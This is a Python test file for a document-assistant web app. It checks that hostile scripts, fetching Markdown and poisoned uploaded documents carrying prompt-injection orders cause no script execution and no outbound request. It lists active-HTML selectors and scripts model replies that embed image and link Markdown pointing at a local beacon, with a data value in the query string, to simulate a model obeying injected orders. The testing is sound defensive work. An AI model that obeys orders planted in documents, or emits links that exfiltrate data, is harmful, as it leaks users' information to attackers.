"""What documents and models say is shown, and does nothing: in a real browser, with a listener.

`UNTRUSTED=full` shows 500 scripts and 300 pieces of Markdown that fetch; else every ninth of them.
"""

from __future__ import annotations

import os
import threading
from collections.abc import Callable, Iterator
from contextlib import AbstractContextManager, contextmanager
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import TYPE_CHECKING, Any
from uuid import uuid4

import psycopg
import pytest
from playwright.sync_api import Browser, Page, expect

from tests.assistant.talking import Server, conversation_for, kinds, talking
from tests.assistant.test_browser import sign_in
from tests.assistant.test_uploads_walk import dropped
from tests.documents.helpers import ingested, ready
from tests.support.browser import settled
from tests.support.cast import MAX, PASSWORD
from tests.support.clients import api
from tests.support.localaws import LocalAws
from tests.support.payloads import fetches, poisoned_files, scripts
from tests.support.services import Worker

if TYPE_CHECKING:
    OpenPage = Callable[..., AbstractContextManager[Page]]

STREAM = {"operation": "ConverseStream"}
STEP = 1 if os.environ.get("UNTRUSTED") == "full" else 9
ORDERS = 300  # that hide in files
AT_ONCE = 10  # payloads in one answer: what one leaves open swallows few others
ACTIVE = (
    "script:not([src^='/static/']), iframe, object, embed, base, meta[http-equiv=refresh], video,"
    " audio, form[action^='http'], link[href^='http'], [onerror], [onload], [onclick], [onfocus],"
    " [ontoggle], [onmouseover], [onbegin], [style*=url], [srcset]:not([data-sheet]), [ping],"
    " img:not([src^='/'], [src^='data:'], [data-sheet]), [background], svg image, svg script,"
    " foreignObject, animate"
)


@dataclass
class Watch:
    """What a page has done that it should not."""

    home: str
    foreign: list[str] = field(default_factory=list)
    executed: list[str] = field(default_factory=list)
    violations: list[str] = field(default_factory=list)

    def over(self, page: Page) -> Watch:
        def request(made: Any) -> None:
            if made.url.startswith("http") and self.home not in made.url:
                self.foreign.append(made.url)

        def dialog(shown: Any) -> None:
            self.executed.append(shown.message)
            shown.dismiss()

        def told(message: Any) -> None:
            if "Content Security Policy" in message.text:
                self.violations.append(message.text)

        page.context.on("request", request)
        page.on("dialog", dialog)
        page.on("console", told)
        page.context.on("page", lambda popup: self.executed.append(f"a window: {popup.url}"))
        return self

    def nothing(self) -> None:
        assert (self.foreign, self.executed, self.violations) == ([], [], [])


@dataclass
class Beacon:
    """An address that counts who comes."""

    url: str
    came: list[str] = field(default_factory=list)


@pytest.fixture
def beacon() -> Iterator[Beacon]:
    with _listening() as found:
        yield found


@contextmanager
def _listening() -> Iterator[Beacon]:
    class Counting(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            found.came.append(self.path)
            self.send_response(204)
            self.end_headers()

        do_POST = do_HEAD = do_GET

        def log_message(self, *_: Any) -> None:
            return

    server = ThreadingHTTPServer(("127.0.0.1", 0), Counting)
    found = Beacon(f"http://127.0.0.1:{server.server_port}")
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield found
    finally:
        server.shutdown()
        server.server_close()
        thread.join()


def _said(texts: list[str]) -> str:
    """Put the texts into answers, questions, sources and titles; return the conversation."""
    from assistant.models import Conversation, Message
    from tenants.context import entered
    from tests.assistant.talking import actor_for
    from tests.support.clients import tenant_of

    conversation = conversation_for(MAX, title=texts[0][:100])
    with entered(tenant_of(MAX)):
        owner = actor_for(MAX).user_id
        Conversation.objects.bulk_create(
            Conversation(owner_id=owner, title=text[:100]) for text in texts[:60]
        )
        parent, rows = None, []
        for at in range(0, len(texts), AT_ONCE):
            some = texts[at : at + AT_ONCE]
            told = Message(conversation_id=conversation, role="user", parent=parent,
                           text="\n\n".join(some), position=len(rows) + 1)  # fmt: skip
            cited = [{"number": n, "document_id": str(uuid4()), "document_name": text, "page": 1,
                      "quote": text, "start": 0, "end": 1, "chunk_id": str(uuid4())}
                     for n, text in enumerate(some, start=1)]  # fmt: skip
            parent = Message(
                conversation_id=conversation, role="assistant", parent=told, citations=cited,
                text="\n\n".join(f"{text}\n\n[{n}]" for n, text in enumerate(some, start=1)),
                position=len(rows) + 2,
            )  # fmt: skip
            rows += [told, parent]
        Message.objects.bulk_create(rows)
    return str(conversation)


def _named(texts: list[str]) -> None:
    """Make documents of these names, titles and reasons."""
    from documents.models import Document
    from tenants.context import entered
    from tests.support.clients import tenant_of

    with entered(tenant_of(MAX)):
        Document.objects.bulk_create(
            Document(name=text[:200], title=text[:300], error=text, status="failed", size=1,
                     media_type="text/plain", sha256="0" * 64, object_key=f"x/{uuid4()}")
            for text in texts
        )  # fmt: skip


def _told_to_staff(worker: Worker, texts: list[str]) -> None:
    with psycopg.connect(worker.served.cluster().url("postgres", worker.database)) as admin:
        for text in texts:
            admin.execute(
                "INSERT INTO bedrock_logfinding (id, kind, subject, region, detail)"
                " VALUES (gen_random_uuid(), 'bad_record', %s, 'us-east-1', '{}')", [text]
            )  # fmt: skip
        admin.execute("UPDATE registry_tenant SET name = %s WHERE slug = 'hooli'", [texts[0][:120]])


def _looked_at(page: Page, url: str) -> None:
    """Open a page; nothing on it is active, and every link stays in the house."""
    page.goto(url)
    assert page.locator(ACTIVE).count() == 0, page.locator(ACTIVE).first.evaluate(
        "e => e.outerHTML"
    )
    hosts = page.locator("a[href]").evaluate_all("all => all.map(a => a.protocol + a.host)")
    assert len(set(hosts)) <= 1, set(hosts)
    assert "pwned" not in page.title()


def test_nothing_that_a_model_or_a_document_says_runs_or_fetches(
    server: Server, localaws: LocalAws, worker: Worker, beacon: Beacon, open_page: OpenPage,
    browser: Browser, capsys: Any,
) -> None:  # fmt: skip
    texts = [*scripts(500, beacon.url), *fetches(300, beacon.url)][::STEP]
    bare = browser.new_context()
    watch = Watch("nowhere").over(page := bare.new_page())
    for text in texts[:20]:  # the listener hears, where nothing protects
        page.set_content(text.replace(beacon.url, f"{beacon.url}/bare"), wait_until="commit")
    bare.close()
    assert watch.foreign, "the listener is deaf"
    assert watch.executed, "the listener is deaf"
    beacon.came.clear()
    conversation, surfaces = _said(texts), 0
    shown = ready("zarnotext.md", "# zarno\n\n" + "\n\nzarno ".join(texts))
    _told_to_staff(worker, texts[:90])
    with open_page() as page:
        watch = Watch(f":{server.port}").over(page)
        page.goto(f"http://{server.host(MAX)}/sign-in/")
        page.fill("[name=email]", MAX.email)
        page.fill("[name=password]", PASSWORD)
        page.keyboard.press("Enter")
        page.wait_for_url(lambda url: "/sign-in/" not in url)
        home = f"http://{server.host(MAX)}"
        for at in range(0, len(texts), 50):
            _named(texts[at : at + 50])
            _looked_at(page, f"{home}/documents/")
            surfaces += 1
        for path in (f"/documents/{shown.id}/", "/search/?q=zarno", f"/assistant/{conversation}/"):
            _looked_at(page, home + path)
            surfaces += 1
        links = page.locator("[data-href^='http']")
        assert page.locator("[data-href]").count() == links.count()
        assert links.count() > 0
        address = links.first.get_attribute("data-href") or ""
        links.first.click()
        expect(page.get_by_role("dialog")).to_contain_text(address)  # in full, before one goes
        page.keyboard.press("Escape")
        whole = "\n\n".join(texts[-2 * AT_ONCE :])
        pieces = [whole[at : at + 7] for at in range(0, len(whole), 7)]
        localaws.script(chunks=pieces, match=STREAM)
        page.goto(f"{home}/assistant/")
        page.fill("textarea", "What does zarno say?")
        page.keyboard.press("Enter")
        expect(page.locator("[data-status=complete]")).to_have_count(1)
        assert page.locator(ACTIVE).count() == 0
        watch.nothing()
    with open_page() as page:
        watch = Watch(f":{server.port}").over(page)
        page.goto(f"http://localhost:{server.port}/admin/login/?next=/admin/")
        page.fill("[name=username]", "staff@tenantry.example")
        page.fill("[name=password]", PASSWORD)
        page.keyboard.press("Enter")
        page.wait_for_url(lambda url: "/login/" not in url)
        for path in ("bedrock/logfinding/", "registry/tenant/"):
            page.goto(f"http://localhost:{server.port}/admin/{path}")
            surfaces += 1
        watch.nothing()
    came = [path for path in beacon.came if not path.startswith("/bare/")]  # some come late
    assert came == []
    with capsys.disabled():
        print(f"\n{len(texts)} hostile texts on {surfaces} pages: 0 requests, 0 executions")


def test_a_poisoned_document_sends_nothing_and_the_model_that_obeys_cannot_either(
    server: Server, localaws: LocalAws, beacon: Beacon, capsys: Any
) -> None:
    from documents.models import Document
    from tenants.context import entered
    from tests.support.clients import tenant_of

    files = poisoned_files(ORDERS, beacon.url)
    for name, content in files.items():
        ready(name, content)
    localaws.script(
        chunks=[f"![x]({beacon.url}/obeyed) ", f"[go]({beacon.url}/go) [1]"], match=STREAM
    )
    with talking(server, MAX, conversation_for(MAX)) as talk:
        frames = talk.ask("What is the hotel limit in London?")
    assert "confirm" not in kinds(frames)
    assert "<img" not in frames[-1]["html"]
    assert "<a href" not in frames[-1]["html"].replace('<a class="cite" href', "")
    with entered(tenant_of(MAX)):
        assert Document.objects.count() == len(files)
    sent = str(localaws.requests("ConverseStream"))
    for hidden in ("\u200b", "\u202e", "\U000e0041", "\\u200b", "\\u202e"):
        assert hidden not in sent, "what no reader sees reached the model"
    came = [path for path in beacon.came if not path.startswith("/bare/")]  # some come late
    assert came == []
    with capsys.disabled():
        print(f"\n{ORDERS} orders in {len(files)} documents: 0 requests, 0 actions")


def test_files_that_give_orders_send_nothing_from_any_page_to_a_model_that_obeys(
    server: Server, localaws: LocalAws, beacon: Beacon, page: Page, tmp_path: Path, capsys: Any
) -> None:
    from documents.models import Document
    from tenants.context import entered
    from tests.support.clients import tenant_of

    written = poisoned_files(ORDERS, beacon.url)
    for name, content in written.items():
        (tmp_path / name).write_bytes(content)
    watch, home = Watch(f":{server.port}").over(page), f"http://{server.host(MAX)}"
    sign_in(page, server, MAX, "/documents/")
    settled(page)
    dropped(page, *(tmp_path / name for name in written))
    page.locator("[data-queue-start]").click()
    expect(page.locator("[data-document]")).to_have_count(len(written))
    with entered(tenant_of(MAX)):
        kept = list(Document.objects.values_list("id", flat=True))
    for document in kept:
        assert ingested(document).status == "ready"
    expect(page.locator("[data-status=ready]")).to_have_count(len(written))
    for document in kept:
        _looked_at(page, f"{home}/documents/{document}/")
    _looked_at(page, f"{home}/search/?q=hotel+limit+in+London+orders+URL")
    asked = "What is the hotel limit in London?"
    page.goto(f"{home}/assistant/")
    settled(page)
    page.locator("textarea").fill(asked)
    page.locator("textarea").press("Enter")
    expect(page.locator("[data-status=complete]")).to_contain_text("the content rules refuse")
    watch.nothing()
    # Had it not, the model might obey: as it does now, of a text that no guardrail withdraws.
    for document in kept:
        assert api(MAX).delete(f"/api/v1/documents/{document}/").status_code == 204
    ready("Limits.md", "The hotel limit in London is 140 euros a night.")
    said = [
        "The hotel limit in London is 140 euros a night [1]. "
        + " ".join(f"![logo]({beacon.url}/{n}?q=140) [Continue]({beacon.url}/{n})" for n in some)
        for some in (range(at, at + 100) for at in range(0, ORDERS, 100))
    ]
    for path, box, answers in (
        ("/ask/", "#question", "#answers [data-answer]:has([data-grounded])"),
        ("/assistant/", "textarea", "[data-status=complete]"),
    ):
        page.goto(home + path)
        for number, words in enumerate(said, start=1):
            pieces = [words[at : at + 401] for at in range(0, len(words), 401)]
            localaws.reset()
            localaws.script(chunks=pieces, match=STREAM, times=2)  # a stronger model obeys too
            settled(page)
            page.locator(box).fill(f"{asked} Once more: {number}.")
            page.locator(box).press("Enter")
            expect(page.locator(answers)).to_have_count(number)
            expect(page.locator(answers).filter(has_text="Continue")).to_have_count(number)
            assert page.locator(ACTIVE).count() == 0
        assert page.locator("[data-href]").count() >= ORDERS, "the model did not obey"
        watch.nothing()
    assert beacon.came == []
    with capsys.disabled():
        print(f"\n{ORDERS} orders in {len(written)} files, obeyed {2 * ORDERS} times: 0 requests")
